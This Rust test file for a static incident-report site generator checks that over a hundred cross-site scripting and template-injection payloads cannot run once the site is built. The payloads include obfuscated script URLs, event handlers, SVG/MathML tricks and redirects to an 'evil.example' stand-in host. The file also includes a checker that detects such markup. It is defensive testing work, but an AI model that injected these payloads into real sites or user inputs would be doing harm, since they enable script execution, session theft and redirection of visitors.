//! Script injection, read as a browser reads the pages: over a hundred
//! payloads (script tags, event handlers, disguised script URLs, namespace
//! tricks, attribute breakouts, template syntax, CSS expressions) are put at
//! every place a report can put text (front matter fields, headings, body,
//! raw HTML, links, images, references, code fences, errors, lessons, action
//! items, timeline rows). One site is built; every HTML page, the feed's
//! HTML content and the sitemap are parsed with a real parser, and nothing
//! that runs script, leaves the site or replaces its base may appear except
//! the site's own scripts and search forms.

mod pages;

use assert_cmd::Command;
use pages::{browser_normalized, site_pages};
use scraper::{ElementRef, Html, Node};
use std::fs;

/// Script URLs and the disguises a browser still reads as the scheme
/// (character references are decoded in Markdown destinations and HTML
/// attributes alike).
fn url_payloads() -> Vec<String> {
    let targets = [
        "javascript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,%3Cscript%3Ealert(1)%3C/script%3E",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ];
    let mut out = Vec::new();
    for t in targets {
        let (scheme, rest) = t.split_once(':').expect("scheme");
        let (head, tail) = scheme.split_at(2);
        out.extend([
            t.to_string(),
            format!("{}:{rest}", scheme.to_ascii_uppercase()),
            format!("{head}&#x09;{tail}:{rest}"),
            format!("{head}&#10;{tail}:{rest}"),
            format!("{head}&#x0D;{tail}:{rest}"),
            format!("&#x01;{t}"),
            format!("&#x20;&#x1F;{t}"),
            format!("{scheme}&colon;{rest}"),
            format!("&#{};{}", u32::from(scheme.as_bytes()[0]), &t[1..]),
        ]);
    }
    out
}

/// Markup and template payloads.
const MARKUP_PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>/*",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\"/>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<img srcset=\"javascript:alert(1) 1x\">",
    "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><mi xlink:href=\"data:x,<script>alert(4)</script>\">x</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
    "<embed src=\"data:text/html,<script>alert(1)</script>\">",
    "<embed code=\"javascript:alert(1)\">",
    "<applet code=x></applet>",
    "<frameset onload=alert(1)>",
    "<portal src=//evil.example></portal>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<META HTTP-EQUIV=Refresh CONTENT=\"0; URL=https://evil.example/\">",
    "<meta http-equiv=\"set-cookie\" content=\"a=b\">",
    "<form action=\"https://evil.example/\"><input type=submit></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<input type=\"image\" src=\"javascript:alert(1)\">",
    "<isindex action=javascript:alert(1) type=image>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' autofocus onfocus='alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<select><style></select><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1)>click</x>",
    "<a href=\"#\" onclick=\"alert(1)\">x</a>",
    "<a href=\"&#x6A;&#x61;vascript:alert(1)\">x</a>",
    "<a href=\" &#14;javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0D;ascript:alert(1)\">x</a>",
    "<area href=javascript:alert(1)>",
    "<table><td background=\"javascript:alert(1)\">x</td></table>",
    "<body background=\"javascript:alert(1)\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<link rel=import href=\"https://evil.example/x.html\">",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "\u{202E}<script>alert(1)</script>",
    "{{ 7777*7 }}",
    "{% raw %}{{ 7777*7 }}{% endraw %}",
    "{% set x = 7777*7 %}{{ x }}",
    "${7777*7}",
    "<%= 7777*7 %>",
    "#{7777*7}",
];

/// What `7777*7` evaluates to: a template that ran report text would show it.
const TEMPLATE_RESULT: &str = "54439";

fn payloads() -> Vec<String> {
    let mut all = url_payloads();
    all.extend(MARKUP_PAYLOADS.iter().map(|p| p.to_string()));
    all
}

/// A YAML double-quoted scalar holding `s` exactly.
fn yaml(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if (c as u32) < 0x20 || c == '\u{7f}' => {
                out.push_str(&format!("\\x{:02x}", c as u32))
            }
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// Every front matter field a report can set, holding `p`.
fn front_matter_report(i: usize, p: &str) -> String {
    let y = yaml(p);
    format!(
        "---\nid: xss-fm-{i}\ntitle: {y}\ndate: 2025-02-{d:02}\nstatus: {y}\nseverity: {y}\ntags: [{y}, plain]\nservices: [{y}]\ntechnologies: [{y}, PostgreSQL]\nsummary: {y}\nimpact: {y}\nreferences:\n  - {y}\n  - {{title: {y}, url: {y}}}\nlessons:\n  - {y}\naction_items:\n  - {y}\n---\n\n## Root Cause\n\nA cause.\n\n## Fix\n\nA fix.\n",
        d = i % 28 + 1
    )
}

/// Every Markdown place a report can put `p`.
fn body_report(i: usize, p: &str) -> String {
    format!(
        "---\nid: xss-body-{i}\ndate: 2025-03-{d:02}\n---\n\n# {p}\n\n**Status:** {p}\n**Severity:** {p}\n\n## Summary\n\n{p}\n\n## Impact\n\n{p}\n\n\
## Timeline\n\n| Time | Event |\n|---|---|\n| 10:00 | {p} |\n| {p} | restarted |\n\n\
## Errors\n\n```text\nERROR: {p}\n```\n\nThe log said `Error: {p}` twice.\n\n**Error Message:** {p}\n\n\
## Root Cause\n\nText {p} with a [link]({p}) and ![image]({p}) and <{p}> and [defined][d{i}].\n\n### {p}\n\nSub.\n\n\
## Fix\n\n```{p}\ncode\n```\n\n**Before:**\n\n```{p}\nold\n```\n\n**After:**\n\n```python\nnew\n```\n\n\
## Lessons Learned\n\n- {p}\n- [lesson link]({p})\n\n## Action Items\n\n- [ ] {p}\n- [x] {p}\n\n\
## References\n\n- [{p}]({p})\n- {p}\n- ![img]({p})\n\n[d{i}]: {p}\n",
        d = i % 28 + 1
    )
}

/// `p` as a raw HTML block and inline HTML (first, since an HTML block of
/// type 1 can swallow what follows it).
fn html_report(i: usize, p: &str) -> String {
    format!(
        "---\nid: xss-html-{i}\ndate: 2025-04-{d:02}\n---\n\n{p}\n\n# Raw HTML {i}\n\nInline {p} text.\n\n<div>{p}</div>\n\n<a href=\"{p}\">raw link</a> <img src=\"{p}\">\n\n## Root Cause\n\n<p>{p}</p>\n",
        d = i % 28 + 1
    )
}

/// Schemes that run script or show attacker HTML. The site allows no
/// `data:` URL at all (its allow-list is http, https, mailto), so any is
/// a finding.
fn dangerous_url(url: &str) -> bool {
    let u = browser_normalized(url);
    ["javascript:", "vbscript:", "livescript:", "data:"]
        .iter()
        .any(|s| u.starts_with(s))
}

const URL_ATTRS: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "background",
    "ping",
    "codebase",
    "code",
    "srcdoc",
];

/// An inline SVG chart as the templates draw it: classed as a chart (or a
/// bar hidden from screen readers) and holding only shapes, text and titles.
fn is_site_chart(svg: ElementRef) -> bool {
    let el = svg.value();
    let classed = el.attr("class") == Some("chart-svg")
        || (el.attr("aria-hidden") == Some("true")
            && el.attr("preserveAspectRatio") == Some("none"));
    classed
        && svg.descendants().skip(1).all(|d| match d.value() {
            Node::Element(e) => {
                ["g", "line", "rect", "circle", "text", "title"].contains(&e.name())
            }
            _ => true,
        })
}

/// Everything in `doc` that could run script or send the reader elsewhere
/// without a click on a visible link, with the site's own script tags and
/// search forms allowed. `assets` is the site's asset prefix.
fn findings(doc: &Html, assets: &str, search_action: &str) -> Vec<String> {
    let mut found = Vec::new();
    for node in doc.tree.nodes() {
        let Node::Element(el) = node.value() else {
            continue;
        };
        let name = el.name().to_ascii_lowercase();
        let text = || {
            ElementRef::wrap(node)
                .map(|e| e.text().collect::<String>())
                .unwrap_or_default()
        };
        match name.as_str() {
            "script" => {
                let own = el.attr("src").is_some_and(|s| s.starts_with(assets))
                    && text().trim().is_empty();
                if !own {
                    found.push(format!("<script src={:?}>{}", el.attr("src"), text()));
                }
            }
            // The insights page's own charts: shapes and text, nothing else.
            "svg" if ElementRef::wrap(node).is_some_and(is_site_chart) => {}
            "iframe" | "frame" | "frameset" | "object" | "embed" | "applet" | "portal" | "base"
            | "svg" | "math" | "style" | "isindex" => found.push(format!("<{name}>")),
            "form" => {
                let own =
                    el.attr("role") == Some("search") && el.attr("action") == Some(search_action);
                if !own {
                    found.push(format!("<form action={:?}>", el.attr("action")));
                }
            }
            "meta" if el.attr("http-equiv").is_some() => {
                found.push(format!("<meta http-equiv={:?}>", el.attr("http-equiv")));
            }
            "link" => {
                let rel = el.attr("rel").unwrap_or("").to_ascii_lowercase();
                let href = el.attr("href").unwrap_or("");
                if rel == "import" || (rel == "stylesheet" && !href.starts_with(assets)) {
                    found.push(format!("<link rel={rel} href={href}>"));
                }
            }
            _ => {}
        }
        for (key, value) in el.attrs() {
            let key = key.to_ascii_lowercase();
            if key.starts_with("on") {
                found.push(format!("<{name} {key}={value:?}>"));
            }
            if key == "srcdoc" {
                found.push(format!("<{name} srcdoc>"));
            }
            if URL_ATTRS.contains(&key.as_str()) && dangerous_url(value) {
                found.push(format!("<{name} {key}={value:?}>"));
            }
            if key == "srcset"
                && value
                    .split(',')
                    .any(|c| dangerous_url(c.trim_start().split(' ').next().unwrap_or("")))
            {
                found.push(format!("<{name} srcset={value:?}>"));
            }
            if key == "style" {
                let v = value.to_ascii_lowercase().replace(['\\', ' '], "");
                if v.contains("expression(") || v.contains("javascript:") || v.contains("url(") {
                    found.push(format!("<{name} style={value:?}>"));
                }
            }
        }
    }
    found
}

fn page_findings(html: &str) -> Vec<String> {
    findings(&Html::parse_document(html), "/assets/", "/search/")
}

#[test]
fn the_checker_catches_known_bad_markup() {
    for bad in [
        "<script>alert(1)</script>",
        "<script src=\"/assets/incidex.js\">alert(1)</script>",
        "<script src=\"https://evil.example/x.js\"></script>",
        "<img src=x onerror=alert(1)>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\"&#x01; JAVASCRIPT:alert(1)\">x</a>",
        "<a href=\"data:text/html,x\">x</a>",
        "<iframe src=\"https://example.com/\"></iframe>",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"Refresh\" content=\"0;url=https://evil.example/\">",
        "<form action=\"https://evil.example/\"><button>x</button></form>",
        "<form role=\"search\" action=\"https://evil.example/\"></form>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<button formaction=\"vbscript:x\">x</button>",
        "<img srcset=\"x.png 1x, javascript:alert(1) 2x\">",
    ] {
        assert!(!page_findings(bad).is_empty(), "missed: {bad}");
    }
    for good in [
        "<script src=\"/assets/incidex.js\" defer></script>",
        "<form class=\"site-search\" role=\"search\" action=\"/search/\"><input name=q></form>",
        "<a href=\"https://example.com/javascript:x\">x</a>",
        "<a href=\"/incidents/a/\">x</a>",
        "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
        "<li data-text=\"&lt;b onmouseover=alert(4)&gt;\">x</li>",
        "<link rel=\"stylesheet\" href=\"/assets/incidex.css\">",
        "<meta charset=\"utf-8\">",
    ] {
        assert!(
            page_findings(good).is_empty(),
            "flagged: {good}: {:?}",
            page_findings(good)
        );
    }
}

#[test]
fn no_payload_at_any_injection_point_runs_script() {
    let all = payloads();
    assert!(all.len() >= 100, "{} payloads", all.len());
    let dir = tempfile::tempdir().expect("tmp");
    let content = dir.path().join("content");
    fs::create_dir_all(&content).expect("mkdir");
    for (i, p) in all.iter().enumerate() {
        fs::write(
            content.join(format!("fm-{i}.md")),
            front_matter_report(i, p),
        )
        .expect("write");
        fs::write(content.join(format!("body-{i}.md")), body_report(i, p)).expect("write");
        fs::write(content.join(format!("html-{i}.md")), html_report(i, p)).expect("write");
    }
    let start = std::time::Instant::now();
    Command::cargo_bin("incidex")
        .expect("binary")
        .arg("--root")
        .arg(dir.path())
        .args(["build", "-q"])
        .timeout(std::time::Duration::from_secs(300))
        .assert()
        .code(predicates::ord::le(1));
    eprintln!("built {} reports in {:?}", 3 * all.len(), start.elapsed());

    let public = dir.path().join("public");
    let files = site_pages(&public);
    let mut problems = Vec::new();
    let mut pages = 0;
    for (path, text) in &files {
        if text.contains(TEMPLATE_RESULT) {
            problems.push(format!(
                "{path}: a template ran report text ({TEMPLATE_RESULT})"
            ));
        }
        if path.ends_with(".xml") {
            let doc = match roxmltree::Document::parse(text) {
                Ok(doc) => doc,
                Err(e) => {
                    problems.push(format!("{path}: not XML: {e}"));
                    continue;
                }
            };
            for n in doc.descendants().filter(|n| n.is_element()) {
                for a in n.attributes() {
                    if URL_ATTRS.contains(&a.name()) && dangerous_url(a.value()) {
                        problems.push(format!(
                            "{path}: <{} {}={:?}>",
                            n.tag_name().name(),
                            a.name(),
                            a.value()
                        ));
                    }
                }
                // Feed readers render `type="html"` text as HTML.
                if n.attribute("type") == Some("html") {
                    let inner: String = n.descendants().filter_map(|t| t.text()).collect();
                    let frag = Html::parse_fragment(&inner);
                    for f in findings(&frag, "/assets/", "/search/") {
                        problems.push(format!("{path}: feed HTML: {f}"));
                    }
                }
                if matches!(n.tag_name().name(), "loc" | "id" | "uri") {
                    if let Some(t) = n.text() {
                        if dangerous_url(t) {
                            problems.push(format!("{path}: <{}>{t}", n.tag_name().name()));
                        }
                    }
                }
            }
        } else {
            pages += 1;
            for f in page_findings(text) {
                problems.push(format!("{path}: {f}"));
            }
        }
    }
    assert!(pages > 3 * all.len(), "every report has a page ({pages})");
    assert!(
        problems.is_empty(),
        "{} findings:\n{}",
        problems.len(),
        problems
            .iter()
            .take(60)
            .cloned()
            .collect::<Vec<_>>()
            .join("\n")
    );

    let json = fs::read(public.join("api/incidents.json")).expect("api json");
    let incidents: serde_json::Value = serde_json::from_slice(&json).expect("api json parses");
    assert_eq!(incidents.as_array().map(Vec::len), Some(3 * all.len()));
    // Payloads reached the pages as text, escaped: the checker saw them.
    let page = fs::read_to_string(public.join("incidents/xss-fm-0/index.html")).expect("page");
    assert!(
        page.contains("javascript:alert(1)"),
        "the title is shown as text"
    );
}
